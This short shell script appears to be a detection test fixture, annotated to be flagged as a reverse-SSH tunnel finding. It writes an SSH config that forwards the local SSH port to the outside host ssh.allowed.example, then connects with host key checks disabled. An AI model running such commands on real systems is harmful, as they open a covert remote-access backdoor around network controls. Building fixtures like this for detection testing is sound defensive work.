# In a file, by another name.
#: in watched
#: needs ssh
#: open ssh.allowed.example:$PORT_SSH
#: shared
#: finding tunnel.reverse-ssh
printf "Host build\n HostName ssh.allowed.example\n Port $PORT_SSH\n User $SSH_USER\n RemoteForward 127.0.0.1:0 localhost:22\n SessionType none\n" > /tmp/config.$ID
timeout 10 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=20 -o LogLevel=ERROR -i ./id -F /tmp/config.$ID build
